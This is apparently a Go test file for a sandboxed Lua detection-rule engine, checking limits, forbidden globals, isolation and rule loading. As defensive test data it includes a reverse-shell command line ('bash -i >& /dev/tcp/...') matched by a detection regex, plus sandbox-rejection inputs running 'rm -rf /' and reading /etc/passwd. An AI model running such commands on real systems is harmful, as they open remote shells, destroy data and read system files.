package lua

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kestrel-runtime/lua/compiler"
	"github.com/kestrel-runtime/lua/parser"
	"github.com/kestrel-runtime/lua/vm"
)

// specScript is the spec's usage example.
const specScript = `
return function(event)
    local exe = event:get_str(1)
    if exe and (string.contains(exe, "/tmp/") or string.endswith(exe, ".sh")) then
        return true
    end
    return false
end
`

// forBothModes runs f with the optimiser on and off: every result must be
// the same either way.
func forBothModes(t *testing.T, f func(t *testing.T, cfg Config)) {
	for _, jit := range []bool{true, false} {
		t.Run(fmt.Sprintf("jit=%v", jit), func(t *testing.T) {
			cfg := DefaultConfig()
			cfg.EnableJIT = jit
			f(t, cfg)
		})
	}
}

func newEngine(t testing.TB, cfg Config, schema *SchemaRegistry) *Engine {
	t.Helper()
	e, err := NewEngine(cfg, schema)
	require.NoError(t, err)
	return e
}

func mustEvent(t testing.TB, b *EventBuilder) *Event {
	t.Helper()
	ev, err := b.Build()
	require.NoError(t, err)
	return ev
}

func TestEngineCreate(t *testing.T) {
	cfg := DefaultConfig()
	assert.Equal(t, Config{MemoryLimitKB: 1024, InstructionLimit: 1_000_000, EnableFFI: false, EnableJIT: true}, cfg)
	e, err := NewEngine(cfg, NewSchemaRegistry())
	require.NoError(t, err)
	assert.Equal(t, cfg, e.Config())

	for _, bad := range []Config{
		{MemoryLimitKB: 0, InstructionLimit: 1},
		{MemoryLimitKB: 1, InstructionLimit: 0},
		{MemoryLimitKB: -1, InstructionLimit: 1},
		{MemoryLimitKB: MaxMemoryLimitKB + 1, InstructionLimit: 1},
		{MemoryLimitKB: 1, InstructionLimit: MaxInstructionLimit + 1},
	} {
		_, err := NewEngine(bad, nil)
		assert.ErrorIs(t, err, ErrInvalidConfig, "%+v", bad)
	}
}

func TestEvaluateSimple(t *testing.T) {
	forBothModes(t, func(t *testing.T, cfg Config) {
		e := newEngine(t, cfg, nil)
		ctx := context.Background()
		for _, tc := range []struct {
			exe  string
			want bool
		}{
			{"/tmp/malicious.sh", true},
			{"/home/u/run.sh", true},
			{"/usr/bin/ls", false},
		} {
			ev := mustEvent(t, NewEventBuilder().EventType(1).TsMono(1_000_000_000).TsWall(1_000_000_000).
				EntityKey(0x123).Field(1, String(tc.exe)))
			got, err := e.Evaluate(ctx, specScript, ev)
			require.NoError(t, err)
			assert.Equal(t, tc.want, got, tc.exe)
		}
		// A missing field gives nil, so the predicate returns false.
		got, err := e.Evaluate(ctx, specScript, mustEvent(t, NewEventBuilder().EventType(1)))
		require.NoError(t, err)
		assert.False(t, got)
	})
}

func TestEvaluateTruthiness(t *testing.T) {
	e := newEngine(t, DefaultConfig(), nil)
	ev := mustEvent(t, NewEventBuilder())
	for src, want := range map[string]bool{
		`return function() return 0 end`:           true, // Lua truthiness: 0 is true
		`return function() return "" end`:          true,
		`return function() return nil end`:         false,
		`return function() end`:                    false,
		`return function() return false, true end`: false, // the first result decides
		`return function() return {} end`:          true,
	} {
		got, err := e.Evaluate(context.Background(), src, ev)
		require.NoError(t, err, src)
		assert.Equal(t, want, got, src)
	}
}

func TestEvaluateWithFields(t *testing.T) {
	forBothModes(t, func(t *testing.T, cfg Config) {
		schema := testSchema(t)
		e := newEngine(t, cfg, schema)
		ev := mustEvent(t, schema.NewEventBuilder().EventType(7).TsMono(11).TsWall(1767225600002742581).EntityKey(1<<64-1).
			Field(1, String("/usr/bin/evil")).Field(2, I64(-9007199254740993)).Field(3, String("evil")).
			Field(4, Bool(true)).Field(6, U64(1<<64-2)).Field(7, F64(0.5)))
		for _, src := range []string{
			`return function(event) return event:get_i64(2) == -9007199254740993 end`,
			`return function(event) return event:get_i64("pid") == -9007199254740993 end`,
			`return function(event) return event:get_str(3) == "evil" and event:get_str("name") == "evil" end`,
			`return function(event) return event:get_bool(4) == true end`,
			`return function(event) return event:has_field(5) == false and event:get_i64(5) == nil end`,
			`return function(event) return event:has_field(1) end`,
			`return function(event) return event:get_f64("score") == 0.5 end`,
			`return function(event) return event:type() == 7 end`,
			`return function(event) return event:ts_mono() == 11 end`,
			`return function(event) return event:ts_wall() == 1767225600002742581 end`,
			`return function(event) return event:ts_wall() ~= 1767225600002742580 end`,
			`return function(event) return tostring(event:ts_wall()) == "1767225600002742581" end`,
			`return function(event)
				local name = event:get_str(3)
				if string.contains(name, "evil") and string.startswith(event:get_str(1), "/usr/") then
					return true
				end
				return false
			end`,
		} {
			got, err := e.Evaluate(context.Background(), src, ev)
			require.NoError(t, err, src)
			assert.True(t, got, src)
		}
	})
}

func TestWrongFieldTypeIsARuntimeErrorNamingTheField(t *testing.T) {
	forBothModes(t, func(t *testing.T, cfg Config) {
		schema := testSchema(t)
		e := newEngine(t, cfg, nil) // no schema at compile time: the check happens at run time
		ev := mustEvent(t, schema.NewEventBuilder().Field(2, I64(5)))
		_, err := e.Evaluate(context.Background(), "return function(event)\n  return event:get_str(2)\nend", ev)
		var re *vm.RuntimeError
		require.ErrorAs(t, err, &re)
		assert.Equal(t, 2, re.Line)
		assert.Contains(t, re.Msg, "pid")
		assert.Contains(t, re.Msg, "i64")
		assert.Contains(t, re.Msg, "string")
		var rerr *RuleError
		require.ErrorAs(t, err, &rerr)
		assert.Equal(t, "script", rerr.Rule)
	})
}

func TestSchemaChecksFieldsAtCompileTime(t *testing.T) {
	forBothModes(t, func(t *testing.T, cfg Config) {
		e := newEngine(t, cfg, testSchema(t))
		for src, want := range map[string]string{
			"return function(event)\n  return event:get_str(\"nosuch\")\nend": "r:2:24: unknown event field 'nosuch'",
			"return function(event)\n  return event:get_str(\"pid\")\nend":    "r:2:24: event field 2 'pid' has type i64",
		} {
			_, err := e.LoadRule("r", src)
			var ce *compiler.Error
			require.ErrorAs(t, err, &ce, src)
			assert.Contains(t, err.Error(), want)
		}
	})
}

func TestSandboxMemoryLimit(t *testing.T) {
	forBothModes(t, func(t *testing.T, cfg Config) {
		cfg.MemoryLimitKB = 64
		e := newEngine(t, cfg, nil)
		ev := mustEvent(t, NewEventBuilder())
		hog := `return function(event)
			local t = {}
			for i = 1, 100000 do t[i] = "x" .. i end
			return true
		end`
		_, err := e.Evaluate(context.Background(), hog, ev)
		require.ErrorIs(t, err, ErrMemoryLimit)
		assert.NotErrorIs(t, err, ErrInstructionLimit)
		var le *vm.LimitError
		require.ErrorAs(t, err, &le)
		assert.Equal(t, int64(64*1024), le.Limit)

		// pcall cannot catch it.
		_, err = e.Evaluate(context.Background(), `return function(event)
			return pcall(function() local s = "x" while true do s = s .. s end end)
		end`, ev)
		require.ErrorIs(t, err, ErrMemoryLimit)

		// The engine keeps serving, and a small evaluation fits.
		ok, err := e.Evaluate(context.Background(), `return function() local t = {1, 2, 3} return #t == 3 end`, ev)
		require.NoError(t, err)
		assert.True(t, ok)
	})
}

func TestSandboxInstructions(t *testing.T) {
	forBothModes(t, func(t *testing.T, cfg Config) {
		cfg.InstructionLimit = 10_000
		e := newEngine(t, cfg, nil)
		ev := mustEvent(t, NewEventBuilder())
		for _, src := range []string{
			`return function() while true do end end`,
			`return function() local function f() return f() end return f() end`,
			`return function() return pcall(function() while true do end end) end`,
			`return function() local s = string.rep("x", 1000) for i = 1, 1e9 do s:find("y") end end`,
		} {
			_, err := e.Evaluate(context.Background(), src, ev)
			require.ErrorIs(t, err, ErrInstructionLimit, src)
		}
		// A loop at module level is bounded too.
		_, err := e.LoadRule("spin", `while true do end`)
		require.ErrorIs(t, err, ErrInstructionLimit)

		ok, err := e.Evaluate(context.Background(), `return function() local n = 0 for i = 1, 100 do n = n + i end return n == 5050 end`, ev)
		require.NoError(t, err)
		assert.True(t, ok)
	})
}

func TestResultCountsAreExactAndRepeatable(t *testing.T) {
	forBothModes(t, func(t *testing.T, cfg Config) {
		e := newEngine(t, cfg, nil)
		r, err := e.LoadRule("count", `return function(event)
			local t = {}
			for i = 1, 10 do t[i] = i end
			alert.emit("count", "ten")
			return #t == 10
		end`)
		require.NoError(t, err)
		ev := mustEvent(t, NewEventBuilder())
		first, err := r.EvaluateDetailed(context.Background(), ev)
		require.NoError(t, err)
		assert.True(t, first.Matched)
		assert.Equal(t, []Alert{{Rule: "count", Message: "ten"}}, first.Alerts)
		assert.Positive(t, first.Instructions)
		assert.Positive(t, first.MemoryBytes)
		for range 5 {
			again, err := r.EvaluateDetailed(context.Background(), ev)
			require.NoError(t, err)
			assert.Equal(t, first, again)
		}
	})
}

func TestAlertsAreBoundedAndCounted(t *testing.T) {
	e := newEngine(t, DefaultConfig(), nil)
	r, err := e.LoadRule("flood", `return function() for i = 1, 100 do alert.emit("flood", "m" .. i) end return false end`)
	require.NoError(t, err)
	res, err := r.EvaluateDetailed(context.Background(), mustEvent(t, NewEventBuilder()))
	require.NoError(t, err)
	assert.False(t, res.Matched)
	assert.Len(t, res.Alerts, MaxAlertsPerEvaluation)
	assert.Equal(t, "m1", res.Alerts[0].Message)
	assert.Equal(t, 100-MaxAlertsPerEvaluation, res.AlertsDropped)
}

func TestStringContains(t *testing.T) {
	testBuiltin(t, []builtinCase{
		{`string.contains("/tmp/evil.sh", "/tmp/")`, true},
		{`string.contains("/usr/bin/ls", "/tmp/")`, false},
		{`string.contains("a.b", ".")`, true}, // plain text, not a pattern
		{`string.contains("ab", "%a")`, false},
		{`string.contains("abc", "")`, true},
		{`("evil"):contains("vi")`, true},
	})
}

func TestStringStartsWith(t *testing.T) {
	testBuiltin(t, []builtinCase{
		{`string.startswith("/bin/sh", "/bin/")`, true},
		{`string.startswith("/usr/bin/sh", "/bin/")`, false},
		{`string.startswith("x", "")`, true},
		{`string.startswith("", "x")`, false},
		{`string.endswith("run.sh", ".sh")`, true},
		{`string.endswith("run.shx", ".sh")`, false},
		{`string.endswith("a.b", ".")`, false},
	})
}

func TestRegexMatch(t *testing.T) {
	testBuiltin(t, []builtinCase{
		{`regex.match("suspicious.*pattern", "a suspicious looking pattern")`, true},
		{`regex.match("^evil$", "not evil")`, false},
		{`regex.match("evil", "not evil")`, true}, // unanchored
		{`regex.match([[(ba)?sh\s+-i]], "bash -i >& /dev/tcp/1.2.3.4/4444")`, true},
		{`regex.match("(?i)CURL", "curl")`, true},
	})
	e := newEngine(t, DefaultConfig(), nil)
	_, err := e.Evaluate(context.Background(), `return function() return regex.match("(", "x") end`, mustEvent(t, NewEventBuilder()))
	require.Error(t, err)
	assert.Contains(t, err.Error(), "(", "the error names the pattern")
}

func TestGlobMatch(t *testing.T) {
	testBuiltin(t, []builtinCase{
		{`string.glob_match("/tmp/evil", "*/evil*")`, true},
		{`string.glob_match("/tmp/good", "*/evil*")`, false},
		{`string.glob_match("a.sh", "?.sh")`, true},
		{`string.glob_match("ab.sh", "?.sh")`, false},
		{`string.glob_match("b", "[abc]")`, true},
		{`string.glob_match("q", "[a-f]")`, false},
		{`string.glob_match("x", "[!x]")`, false},
		{`string.glob_match("y", "[!x]")`, true},
		{`string.glob_match(string.rep("a", 5000), string.rep("*a", 50) .. "b")`, false}, // linear, no blow-up
	})
}

type builtinCase struct {
	expr string
	want bool
}

func testBuiltin(t *testing.T, cases []builtinCase) {
	t.Helper()
	forBothModes(t, func(t *testing.T, cfg Config) {
		e := newEngine(t, cfg, nil)
		ev := mustEvent(t, NewEventBuilder())
		for _, tc := range cases {
			got, err := e.Evaluate(context.Background(), "return function(event) return "+tc.expr+" end", ev)
			require.NoError(t, err, tc.expr)
			assert.Equal(t, tc.want, got, tc.expr)
		}
	})
}

func TestSandboxForbiddenNamesSaySo(t *testing.T) {
	e := newEngine(t, DefaultConfig(), nil)
	ev := mustEvent(t, NewEventBuilder())
	for _, tc := range []struct{ src, name string }{
		{`io.popen('rm -rf /')`, "io"},
		{`return function() return os.time() end`, "os"},
		{`return function() return debug.traceback() end`, "debug"},
		{`return function() return loadstring("return 1") end`, "loadstring"},
		{`return function() return load(function() end) end`, "load"},
		{`return function() return dofile("/etc/passwd") end`, "dofile"},
		{`return function() return require("x") end`, "require"},
		{`return function() return setfenv(1, {}) end`, "setfenv"},
		{`return function() return getfenv(1) end`, "getfenv"},
		{`return function() return collectgarbage() end`, "collectgarbage"},
		{`return function() return coroutine.create(print) end`, "coroutine"},
		{`return function() return _G["i" .. "o"] end`, "io"},
		{`return function() return string.dump(print) end`, "string.dump"},
	} {
		_, err := e.Evaluate(context.Background(), tc.src, ev)
		require.Error(t, err, tc.src)
		assert.Contains(t, err.Error(), "native access (FFI) is disabled: '"+tc.name+"' is not available in the sandbox", tc.src)
		var re *vm.RuntimeError
		assert.ErrorAs(t, err, &re, tc.src)
	}
	// Other missing globals are plain nil, as in Lua.
	ok, err := e.Evaluate(context.Background(), `return function() return nosuchglobal == nil and rawget(_G, "io") == nil end`, ev)
	require.NoError(t, err)
	assert.True(t, ok)
}

func TestFFIModules(t *testing.T) {
	funcs := map[string]NativeFunc{
		"double": func(args []vm.Value) (vm.Value, error) {
			if len(args) != 1 || args[0].Kind() != vm.KindInt {
				return vm.Nil, errors.New("double: integer expected")
			}
			return vm.Int(2 * args[0].AsInt()), nil
		},
		"boom": func(args []vm.Value) (vm.Value, error) { panic("kaboom") },
	}
	ev := mustEvent(t, NewEventBuilder())

	ffi := DefaultConfig()
	ffi.EnableFFI = true
	e := newEngine(t, ffi, nil)
	require.NoError(t, e.RegisterModule("host", funcs))
	ok, err := e.Evaluate(context.Background(), `return function() return host.double(21) == 42 end`, ev)
	require.NoError(t, err)
	assert.True(t, ok)
	_, err = e.Evaluate(context.Background(), `return function() return host.double("x") end`, ev)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "double: integer expected")
	_, err = e.Evaluate(context.Background(), `return function() return host.boom() end`, ev)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "native function 'host.boom' panicked: kaboom")
	ok, err = e.Evaluate(context.Background(), `return function() return host.double(1) == 2 end`, ev)
	require.NoError(t, err, "the engine keeps serving after a panic")
	assert.True(t, ok)
	// FFI does not bring back io and friends.
	_, err = e.Evaluate(context.Background(), `return function() return io end`, ev)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "'io' is not available in the sandbox")
	assert.ErrorIs(t, e.RegisterModule("late", funcs), ErrEngineInUse)

	// With FFI disabled the module is invisible, and says why.
	e = newEngine(t, DefaultConfig(), nil)
	require.NoError(t, e.RegisterModule("host", funcs))
	_, err = e.Evaluate(context.Background(), `return function() return host.double(1) end`, ev)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "native access (FFI) is disabled: 'host' is not available in the sandbox")
}

func TestIsolationBetweenEvaluations(t *testing.T) {
	forBothModes(t, func(t *testing.T, cfg Config) {
		e := newEngine(t, cfg, nil)
		ev := mustEvent(t, NewEventBuilder())
		ctx := context.Background()

		// Module-level tables are frozen.
		r, err := e.LoadRule("tables", `local seen = {} return function() seen[#seen + 1] = 1 return #seen end`)
		require.NoError(t, err)
		_, err = r.Evaluate(ctx, ev)
		require.Error(t, err)
		assert.Contains(t, err.Error(), "attempt to modify a read-only table")
		var re *vm.RuntimeError
		assert.ErrorAs(t, err, &re)

		// Globals cannot be assigned, nor libraries changed.
		for _, src := range []string{
			`return function() counter = (counter or 0) + 1 return counter end`,
			`return function() string.contains = nil return true end`,
			`return function() rawset(_G, "x", 1) return true end`,
			`return function() setmetatable(string, nil) return true end`,
		} {
			_, err := e.Evaluate(ctx, src, ev)
			require.Error(t, err, src)
		}

		// Module-level variables cannot be assigned by the rule's functions,
		// directly or through a nested closure: rejected at load.
		for _, src := range []string{
			`local n = 0 return function() n = n + 1 return n end`,
			`local n = 0 return function() local function bump() n = n + 1 end bump() return n end`,
			`local n = 0 local function bump() n = n + 1 end return function() bump() return n end`,
			`local n = 0 return {match = function() n = 1 end}`,
		} {
			_, err := e.LoadRule("upval", src)
			var ue *ReadOnlyUpvalueError
			require.ErrorAs(t, err, &ue, src)
			assert.Equal(t, "n", ue.Name)
		}

		// Locals of an evaluation, and closures over them, are fresh each
		// time: the same answer every time.
		r, err = e.LoadRule("fresh", `
			local base = {1, 2, 3}
			return function()
				local acc = {}
				local n = 0
				local function add(x) n = n + x; acc[#acc + 1] = x end
				for _, v in ipairs(base) do add(v) end
				return n == 6 and #acc == 3
			end`)
		require.NoError(t, err)
		for range 3 {
			ok, err := r.Evaluate(ctx, ev)
			require.NoError(t, err)
			assert.True(t, ok)
		}

		// Rules do not see each other's globals.
		_, err = e.LoadRule("a", `helper = 1 return function() return helper end`)
		require.NoError(t, err)
		ok, err := e.Evaluate(ctx, `return function() return helper == nil end`, ev)
		require.NoError(t, err)
		assert.True(t, ok)
		ok, err = e.EvaluateRule(ctx, "a", ev)
		require.NoError(t, err)
		assert.True(t, ok)

		// math.random starts from the same seed on every evaluation.
		r, err = e.LoadRule("rand", `return function() alert.emit("rand", tostring(math.random(1000000))) return true end`)
		require.NoError(t, err)
		first, err := r.EvaluateDetailed(ctx, ev)
		require.NoError(t, err)
		for range 3 {
			again, err := r.EvaluateDetailed(ctx, ev)
			require.NoError(t, err)
			assert.Equal(t, first.Alerts, again.Alerts)
		}
	})
}

func TestErrorsNameRuleAndLineAndEngineKeepsServing(t *testing.T) {
	e := newEngine(t, DefaultConfig(), nil)
	r, err := e.LoadRule("nilidx", "return function(event)\n  local exe = event:get_str(1)\n  return exe:len() > 0\nend")
	require.NoError(t, err)
	ev := mustEvent(t, NewEventBuilder())
	_, err = r.Evaluate(context.Background(), ev)
	var rerr *RuleError
	require.ErrorAs(t, err, &rerr)
	assert.Equal(t, "nilidx", rerr.Rule)
	var re *vm.RuntimeError
	require.ErrorAs(t, err, &re)
	assert.Equal(t, 3, re.Line)
	assert.Contains(t, err.Error(), "rule nilidx: nilidx:3:")
	assert.Contains(t, err.Error(), "attempt to index local 'exe' (a nil value)")

	ok, err := r.Evaluate(context.Background(), mustEvent(t, NewEventBuilder().Field(1, String("x"))))
	require.NoError(t, err)
	assert.True(t, ok)

	_, err = e.EvaluateRule(context.Background(), "nosuch", ev)
	assert.ErrorIs(t, err, ErrNoSuchRule)

	_, err = r.Evaluate(context.Background(), nil)
	assert.EqualError(t, err, "rule nilidx: nil event")

	_, err = e.LoadRule("syntax", "return function(\n")
	var se *parser.SyntaxError
	require.ErrorAs(t, err, &se)
}

func TestRuleTableForm(t *testing.T) {
	e := newEngine(t, DefaultConfig(), nil)
	r, err := e.LoadRule("tbl", `return {
		event_types = {3, 1, 3},
		severity = "high",
		description = "d",
		match = function(event) return event:type() == 1 end,
	}`)
	require.NoError(t, err)
	assert.Equal(t, []int64{1, 3}, r.EventTypes())
	assert.Equal(t, "high", r.Severity())
	assert.Equal(t, "d", r.Description())
	assert.True(t, r.AppliesTo(1))
	assert.False(t, r.AppliesTo(2))
	ok, err := r.Evaluate(context.Background(), mustEvent(t, NewEventBuilder().EventType(1)))
	require.NoError(t, err)
	assert.True(t, ok)

	for src, want := range map[string]string{
		`return 42`:          "a rule must return a function or a rule table, got number",
		`return {}`:          "'match' function missing",
		`return {match = 1}`: "'match' must be a function",
		`return {match = print, event_type = {1}}`:       "unknown key 'event_type'",
		`return {match = print, event_types = {"x"}}`:    "event_types[1] must be an integer",
		`return {match = print, severity = 3}`:           "'severity' must be a string",
		"local x = 1\n\nreturn {match = print, [1] = 2}": "tbl2:3:",
	} {
		_, err := e.LoadRule("tbl2", src)
		var se *ShapeError
		require.ErrorAs(t, err, &se, src)
		assert.Contains(t, err.Error(), want, src)
	}
}

func TestConcurrentEvaluation(t *testing.T) {
	schema := testSchema(t)
	e := newEngine(t, DefaultConfig(), schema)
	r, err := e.LoadRule("conc", `
		local bad = {"/tmp/", "/dev/shm/"}
		return function(event)
			local exe = event:get_str("exe")
			local parts = {}
			for _, p in ipairs(bad) do
				if string.contains(exe, p) then parts[#parts + 1] = p end
			end
			if #parts > 0 then alert.emit("conc", exe) end
			return #parts > 0
		end`)
	require.NoError(t, err)
	evs := []*Event{
		mustEvent(t, schema.NewEventBuilder().Field(1, String("/tmp/a"))),
		mustEvent(t, schema.NewEventBuilder().Field(1, String("/usr/bin/a"))),
	}
	want := make([]Result, len(evs))
	for i, ev := range evs {
		want[i], err = r.EvaluateDetailed(context.Background(), ev)
		require.NoError(t, err)
	}
	var wg sync.WaitGroup
	for g := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 200 {
				k := (g + i) % len(evs)
				got, err := r.EvaluateDetailed(context.Background(), evs[k])
				if !assert.NoError(t, err) || !assert.Equal(t, want[k], got) {
					return
				}
				ok, err := e.Evaluate(context.Background(), specScript, evs[k])
				if !assert.NoError(t, err) || !assert.Equal(t, k == 0, ok) {
					return
				}
			}
		}()
	}
	wg.Wait()
}

func TestSteadyStateEvaluationAllocatesNothing(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector allocates")
	}
	forBothModes(t, func(t *testing.T, cfg Config) {
		e := newEngine(t, cfg, testSchema(t))
		r, err := e.LoadRule("alloc", specScript)
		require.NoError(t, err)
		ev := mustEvent(t, NewEventBuilder().EventType(1).Field(1, String("/tmp/malicious.sh")))
		ctx := context.Background()
		_, err = r.Evaluate(ctx, ev)
		require.NoError(t, err)
		allocs := testing.AllocsPerRun(100, func() {
			if ok, err := r.Evaluate(ctx, ev); !ok || err != nil {
				panic("unexpected result")
			}
		})
		assert.Zero(t, allocs, "Rule.Evaluate")
		allocs = testing.AllocsPerRun(100, func() { _, _ = e.Evaluate(ctx, specScript, ev) })
		assert.Zero(t, allocs, "Engine.Evaluate (cached)")
		allocs = testing.AllocsPerRun(100, func() { _, _ = e.EvaluateRule(ctx, "alloc", ev) })
		assert.Zero(t, allocs, "Engine.EvaluateRule")
	})
}

func TestEvaluateCacheIsBounded(t *testing.T) {
	e := newEngine(t, DefaultConfig(), nil)
	ev := mustEvent(t, NewEventBuilder())
	for i := range MaxCachedScripts + 10 {
		ok, err := e.Evaluate(context.Background(), fmt.Sprintf("return function() return %d == %d end", i, i), ev)
		require.NoError(t, err)
		require.True(t, ok)
	}
	assert.Len(t, e.cache, MaxCachedScripts)
	assert.Len(t, e.order, MaxCachedScripts)
}

func TestLoadRulesReportsEveryBrokenRuleAndKeepsTheGoodOnes(t *testing.T) {
	dir := t.TempDir()
	files := map[string]string{
		"good.lua":    `return function(event) return true end`,
		"typed.lua":   `return {event_types = {2}, match = function(event) return false end}`,
		"syntax.lua":  "return function(event)\n  return x ==\nend",
		"runtime.lua": "local t = nil\nreturn t.x",
		"notes.txt":   "not a rule",
	}
	for name, src := range files {
		require.NoError(t, writeFile(dir+"/"+name, src))
	}
	e := newEngine(t, DefaultConfig(), nil)
	rs, err := e.LoadRules(dir)
	require.Error(t, err)
	assert.Contains(t, err.Error(), dir+"/syntax.lua:3:1:")
	assert.Contains(t, err.Error(), dir+"/runtime.lua:2:")
	require.NotNil(t, rs)
	var ids []string
	for _, r := range rs.Rules() {
		ids = append(ids, r.ID())
	}
	assert.Equal(t, []string{"good", "typed"}, ids)
	assert.Equal(t, []string{"good", "typed"}, ruleIDs(rs.ForEventType(2)))
	assert.Equal(t, []string{"good"}, ruleIDs(rs.ForEventType(1)))
	_, ok := e.Rule("good")
	assert.True(t, ok)
}

func ruleIDs(rs []*Rule) []string {
	var ids []string
	for _, r := range rs {
		ids = append(ids, r.ID())
	}
	return ids
}

func BenchmarkRuleEvaluate(b *testing.B) {
	e := newEngine(b, DefaultConfig(), nil)
	r, err := e.LoadRule("bench", specScript)
	require.NoError(b, err)
	ev := mustEvent(b, NewEventBuilder().EventType(1).Field(1, String("/tmp/malicious.sh")))
	ctx := context.Background()
	b.ReportAllocs()
	for b.Loop() {
		if ok, err := r.Evaluate(ctx, ev); !ok || err != nil {
			b.Fatal(ok, err)
		}
	}
}

func TestEvaluateHonoursContextCancellation(t *testing.T) {
	cfg := DefaultConfig()
	cfg.InstructionLimit = MaxInstructionLimit
	e := newEngine(t, cfg, nil)
	r, err := e.LoadRule("spin", `return function() while true do end end`)
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err = r.Evaluate(ctx, mustEvent(t, NewEventBuilder()))
	require.ErrorIs(t, err, context.Canceled)
	var ce *vm.CanceledError
	assert.ErrorAs(t, err, &ce)
	// The engine keeps serving.
	ok, err := e.Evaluate(context.Background(), specScript, mustEvent(t, NewEventBuilder().Field(1, String("/tmp/x"))))
	require.NoError(t, err)
	assert.True(t, ok)
}
